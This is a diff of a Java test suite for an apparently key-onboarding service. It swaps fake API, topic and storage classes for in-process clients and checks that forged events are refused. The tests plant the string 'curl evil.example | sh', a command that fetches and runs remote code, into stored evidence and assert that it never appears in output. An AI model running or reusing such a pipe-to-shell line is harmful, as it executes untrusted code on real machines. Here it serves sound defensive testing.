@@ -4,12 +4,13 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import cmek.client.anthropic.AdminApi;
+import cmek.client.pubsub.TopicsInProcess;
+import cmek.client.pubsub.TopicsInProcess.Published;
 import cmek.client.storage.EvidenceStorage;
+import cmek.client.storage.StorageInProcess;
 import cmek.config.Configs;
-import cmek.fake.FakeAdminApi;
-import cmek.fake.FakeStorage;
-import cmek.fake.FakeTopics;
-import cmek.fake.FakeTopics.Published;
+import cmek.fake.AdminApiInProcess;
 import cmek.fake.KmsInProcess;
 import cmek.fake.Sample;
 import cmek.finding.Finding;
@@ -29,6 +30,7 @@ import cmek.onboarding.state.NewestResults;
 import cmek.onboarding.state.OnboardingStore;
 import cmek.onboarding.state.TerminalResults;
 import cmek.onboarding.state.Warnings;
+import cmek.simulator.AdminSimulator;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.cloudevents.CloudEvent;
@@ -39,7 +41,6 @@ import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
-import java.util.Optional;
 import java.util.function.Consumer;
 import java.util.function.UnaryOperator;
 import java.util.stream.Stream;
@@ -63,11 +64,15 @@ class ForgedEventsTest {
     private static final String COMMAND = "curl evil.example | sh";
 
     private final KmsInProcess kms = new KmsInProcess();
-    private final FakeAdminApi anthropic = new FakeAdminApi(Sample.ORGANIZATION)
-            .withExternalKey("ekey_strangers", STRANGERS, true, Sample.NOW)
-            .withWorkspace(Sample.WORKSPACE, false, Optional.empty());
-    private final FakeTopics topics = new FakeTopics();
-    private final FakeStorage storage = new FakeStorage();
+    private final AdminApiInProcess admin = new AdminApiInProcess();
+    private final AdminSimulator simulator = admin.simulator()
+            .withKey("ekey_strangers", STRANGERS.toString(), Sample.NOW)
+            .useElsewhere("ekey_strangers")
+            .withWorkspace(Sample.WORKSPACE.value(), "Payments");
+    private final AdminApi anthropic = admin.client();
+    private final TopicsInProcess topics = new TopicsInProcess();
+    private final StorageInProcess bucket = new StorageInProcess();
+    private final EvidenceStorage storage = bucket.client();
     private Policy policy = Sample.LISTING;
 
     /** What is forged, and the reason that it meets at every entry point. */
@@ -133,7 +138,7 @@ class ForgedEventsTest {
         assertThat(results()).containsExactly("REFUSED " + forgery.reason);
         assertThat(topics.published()).hasSize(1);
         assertThat(kms.writes()).isEmpty();
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     @ParameterizedTest
@@ -144,7 +149,7 @@ class ForgedEventsTest {
         enter(step, registered("ekey_strangers"));
 
         assertThat(results()).containsExactly("REFUSED UNREADABLE");
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     /** It may be there and not be shown yet, so this waits until it is given up. */
@@ -157,7 +162,7 @@ class ForgedEventsTest {
 
         assertThat(results()).allMatch(result -> result.startsWith("RETRYING"));
         assertThat(topics.published()).hasSize(results().size());
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     /** A field that is not known is ignored, whatever it says: the grantee is a constant of the program. */
@@ -181,7 +186,7 @@ class ForgedEventsTest {
     @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
     void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
         kms.withKey(Sample.KEY, Sample.LABELS);
-        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
 
         enter(step, talking());
 
@@ -191,7 +196,7 @@ class ForgedEventsTest {
 
     @Test
     void norIsItShownToThePersonWhoApproves() {
-        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
         policy = new Policy(
                 Sample.LISTING.allowedProjects(),
                 Sample.LISTING.allowedWorkspaces(),
@@ -234,11 +239,8 @@ class ForgedEventsTest {
             case "of another onboarding" ->
                 event = edited(event, whole -> whole.put("deduplicationKey", "f".repeat(32)));
             case "overwritten" ->
-                storage.names()
-                        .forEach(name -> storage.overwrite(
-                                name,
-                                EvidenceStorage.MediaKind.JSON,
-                                storage.text(name).replace("HSM", COMMAND)));
+                bucket.names()
+                        .forEach(name -> bucket.write(name, bucket.text(name).replace("HSM", COMMAND)));
             default -> event = edited(event, whole -> whole.put("warningsDigest", "0".repeat(64)));
         }
 
@@ -264,8 +266,8 @@ class ForgedEventsTest {
 
     private void assertNothingOfTheForgerIsShown() {
         assertThat(topics.published()).extracting(Published::json).noneMatch(json -> json.contains(COMMAND));
-        assertThat(storage.names())
-                .allSatisfy(name -> assertThat(storage.text(name)).doesNotContain(COMMAND));
+        assertThat(bucket.names())
+                .allSatisfy(name -> assertThat(bucket.text(name)).doesNotContain(COMMAND));
     }
 
     private static String registered(String id) {
@@ -278,7 +280,7 @@ class ForgedEventsTest {
         OnboardingHandler handler = new OnboardingHandler(
                 new MessageHandler(),
                 new ResultPublisher(
-                        topics,
+                        topics.client(),
                         new ResultLog(new PrintStream(OutputStream.nullOutputStream(), false, UTF_8)),
                         Sample.SERVICE,
                         new NewestResults(storage),
